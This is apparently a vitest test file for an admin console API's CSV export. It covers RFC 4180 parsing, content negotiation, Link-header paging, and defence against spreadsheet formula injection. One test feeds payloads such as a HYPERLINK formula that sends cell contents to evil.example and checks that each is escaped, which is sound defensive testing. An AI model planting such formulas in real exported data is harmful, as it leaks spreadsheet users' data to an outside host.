/** Lists for spreadsheets: the same rows as CSV (RFC 4180), with nothing that a spreadsheet would calculate. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { apiToken, type RunningConsole, startConsole } from '../helpers/console.ts';
import { type ApiCaller, apiCaller } from './support.ts';

let console: RunningConsole;
let token: string;
let call: ApiCaller;
beforeAll(async () => {
  console = await startConsole();
  token = await apiToken(console);
  call = apiCaller(console, '', token);
});
afterAll(() => console?.stop());

function ask(path: string, accept: string): Promise<Response> {
  return fetch(`${console.url}/api/v1${path}`, {
    headers: { Authorization: `Bearer ${token}`, Accept: accept },
  });
}

/** Rows of cells, read as RFC 4180 says. */
function parsed(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  for (let found = pattern.exec(text); found; found = pattern.exec(text)) {
    rows.at(-1)!.push(found[1]?.replaceAll('""', '"') ?? found[2]!);
    if (found[3] === '\r\n') rows.push([]);
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}

async function table(path: string) {
  const response = await ask(path, 'text/csv');
  expect(response.status).toBe(200);
  const [head, ...rows] = parsed(await response.text());
  const objects = rows.map((row) => Object.fromEntries(row.map((cell, n) => [head![n]!, cell])));
  return { response, head: head!, rows: objects as Record<string, string>[] };
}

test('a list comes as CSV, a row for each item and a column for each field', async () => {
  const roles = ['Viewer', 'MetricsViewer'];
  const person = { id: 'grace', displayName: 'Hopper, "Amazing" Grace', email: 'g@example.com', roles };
  expect((await call('POST', '/users', person)).status).toBe(201);
  const { response, head, rows } = await table('/users?q=grace');
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(response.headers.get('cache-control')).toBe('no-store');
  const shown = (await call('GET', '/users/grace')).body;
  expect(rows).toEqual([
    {
      id: 'grace',
      subject: shown.subject,
      displayName: 'Hopper, "Amazing" Grace',
      email: 'g@example.com',
      roles: 'Viewer MetricsViewer',
      eligibleRoles: '',
      'origin.provider': '',
      'origin.subject': '',
      status: 'invited',
      lastSignInAt: '',
      createdAt: shown.createdAt,
      updatedAt: shown.updatedAt,
      'owner.kind': 'admin',
      'owner.source': '',
      'hold.by': '',
      'hold.reason': '',
      'hold.at': '',
    },
  ]);
  expect(head.slice(0, 3)).toEqual(['id', 'subject', 'displayName']);
});

test.each(['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)'])(
  '%s stays a text in a spreadsheet',
  async (displayName) => {
    expect((await call('PUT', '/users/mallory', { displayName })).status).toBeLessThan(300);
    const [row] = (await table('/users?q=mallory')).rows;
    expect(row!.displayName).toBe(`'${displayName}`);
  },
);

test('the next page stands in Link, and all pages have the rows that JSON has', async () => {
  const ids = (await call('GET', '/clients?limit=500')).body.items.map(({ id }: { id: string }) => id);
  const seen: string[] = [];
  let path: string | undefined = '/clients?limit=1&status=active';
  while (path !== undefined) {
    const { response, rows }: Awaited<ReturnType<typeof table>> = await table(path);
    seen.push(...rows.map(({ id }) => id!));
    const link = response.headers.get('link');
    path = link === null ? undefined : /^<\/api\/v1(\/clients\?\S+)>; rel="next"$/.exec(link)![1];
  }
  expect(ids.length).toBeGreaterThan(1);
  expect(seen).toEqual(ids);
});

test.each([
  ['text/csv', 'text/csv'],
  ['text/csv;q=0.9, application/json;q=0.5', 'text/csv'],
  ['text/csv, */*;q=0.1', 'text/csv'],
  ['application/json', 'application/json'],
  ['application/json, text/csv', 'application/json'],
  ['text/csv;q=0.1, */*', 'application/json'],
  ['text/csv;q=0', 'application/json'],
  ['*/*', 'application/json'],
])('Accept: %s is answered with %s', async (accept, type) => {
  expect((await ask('/keys', accept)).headers.get('content-type')?.split(';')[0]).toBe(type);
});

test('what is no list, and what is refused, is as ever', async () => {
  expect((await ask('/users/ada', 'text/csv')).headers.get('content-type')).toBe('application/json');
  const refused = await ask('/users?limit=0', 'text/csv');
  expect([refused.status, refused.headers.get('content-type')]).toEqual([400, 'application/problem+json']);
});
